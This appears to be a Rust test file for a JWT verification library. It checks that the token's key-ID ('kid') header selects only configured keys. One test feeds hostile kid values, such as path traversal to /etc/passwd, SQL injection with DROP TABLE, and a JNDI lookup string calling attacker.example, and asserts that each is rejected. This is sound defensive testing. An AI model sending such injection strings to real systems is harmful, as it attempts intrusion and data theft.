//! `kid` injection: path traversal, SQL and other injection strings, a ten-kilobyte `kid`,
//! non-string `kid`s, a `kid` naming a key of another algorithm, and no `kid` with several keys. A
//! `kid` only ever selects one of the configured keys.

use super::*;

fn two_hs_keys() -> KeySet {
    KeySet::new(vec![
        hs_key().with_kid("k1"),
        Key::hmac(Algorithm::HS256, OTHER_SECRET)
            .unwrap()
            .with_kid("k2"),
    ])
    .unwrap()
}

fn with_kid(kid: &str) -> String {
    let header = serde_json::json!({ "alg": "HS256", "typ": "JWT", "kid": kid }).to_string();
    hs(&header, &claims())
}

#[test]
fn sanity_the_right_kid_verifies() {
    jws_ok(&with_kid("k1"), &two_hs_keys());
    assert_eq!(
        jws_err(&with_kid("k2"), &two_hs_keys()),
        Error::InvalidSignature
    );
}

#[test]
fn path_traversal_sql_and_other_injections_select_nothing() {
    for kid in [
        "../../etc/passwd",
        "/dev/null",
        "../../../../../../dev/null",
        "' OR '1'='1",
        "k1' --",
        "k1\"; DROP TABLE keys; --",
        "k1\u{0}",
        "K1",
        " k1",
        "k1 ",
        "",
        "*",
        "%",
        "${jndi:ldap://attacker.example/a}",
        "k1|k2",
    ] {
        let e = jws_err(&with_kid(kid), &two_hs_keys());
        assert_eq!(
            e,
            Error::UnknownKey {
                kid: Some(kid.into())
            },
            "{kid:?}"
        );
        assert_eq!(e.message(), "No key matches the token's key ID");
    }
    // A single-key set does not fall back to its only key when the kid names another.
    let single = KeySet::new(vec![hs_key().with_kid("k1")]).unwrap();
    assert_eq!(
        jws_err(&with_kid("../../etc/passwd"), &single),
        Error::UnknownKey {
            kid: Some("../../etc/passwd".into())
        }
    );
}

#[test]
fn ten_kilobyte_kid() {
    let kid = "A".repeat(10 * 1024);
    let t = with_kid(&kid);
    // Over the default cap: refused before any decoding.
    assert_eq!(
        jws_err(&t, &two_hs_keys()),
        Error::TooLarge {
            len: t.len(),
            max: DEFAULT_MAX_TOKEN_LEN
        }
    );
    // Under a larger cap: an unknown kid, reported cut to 64 characters.
    let e = jws::verify(&t, &two_hs_keys(), 1 << 20).unwrap_err();
    assert_eq!(
        e,
        Error::UnknownKey {
            kid: Some("A".repeat(64))
        }
    );
    assert!(e.to_string().len() < 200);
}

#[test]
fn non_string_kid() {
    for v in ["1", "null", "true", r#"["k1"]"#, r#"{"k":"k1"}"#, "1.5"] {
        let t = hs(&format!(r#"{{"alg":"HS256","kid":{v}}}"#), &claims());
        for keys in [two_hs_keys(), hs_set()] {
            let e = jws_err(&t, &keys);
            assert_eq!(e, Error::HeaderType { param: "kid" }, "{v}");
            assert_eq!(e.message(), "Key ID header parameter must be a string");
        }
    }
}

#[test]
fn kid_of_another_key_with_another_algorithm() {
    // HMAC: k2 is an HS512 key; an HS256 token naming k2 is refused on the algorithm.
    let keys = KeySet::new(vec![
        hs_key().with_kid("k1"),
        Key::hmac(Algorithm::HS512, &[7; 64])
            .unwrap()
            .with_kid("k2"),
    ])
    .unwrap();
    jws_ok(&with_kid("k1"), &keys);
    assert_eq!(
        jws_err(&with_kid("k2"), &keys),
        Error::AlgorithmNotAllowed {
            expected: Algorithm::HS512,
            found: "HS256".into()
        }
    );
    // Asymmetric: an ES256 token whose kid names the EdDSA key of the set.
    let es = fixture(Algorithm::ES256);
    let ed = fixture(Algorithm::EdDSA);
    let set = KeySet::new(vec![
        public_copy(es.public_key()),
        public_copy(ed.public_key()),
    ])
    .unwrap();
    let ed_kid = ed.public_key().kid().unwrap();
    let header = format!(r#"{{"alg":"ES256","kid":"{ed_kid}"}}"#);
    let input = format!("{}.{}", b64(header.as_bytes()), b64(claims().as_bytes()));
    let t = format!("{input}.{}", b64(&es256_sign(&es.signer, input.as_bytes())));
    assert_eq!(
        jws_err(&t, &set),
        Error::AlgorithmNotAllowed {
            expected: Algorithm::EdDSA,
            found: "ES256".into()
        }
    );
    // And an EdDSA header naming the EdDSA key but carrying the ES256 signature.
    let header = format!(r#"{{"alg":"EdDSA","kid":"{ed_kid}"}}"#);
    let input = format!("{}.{}", b64(header.as_bytes()), b64(claims().as_bytes()));
    let t = format!("{input}.{}", b64(&es256_sign(&es.signer, input.as_bytes())));
    assert_eq!(jws_err(&t, &set), Error::InvalidSignature);
    // Both tokens through the right kid verify.
    jws_ok(&es.token(&claims()), &set);
    jws_ok(&ed.token(&claims()), &set);
}

#[test]
fn no_kid_with_several_keys() {
    let e = jws_err(&hs(HS_HEADER, &claims()), &two_hs_keys());
    assert_eq!(e, Error::UnknownKey { kid: None });
}
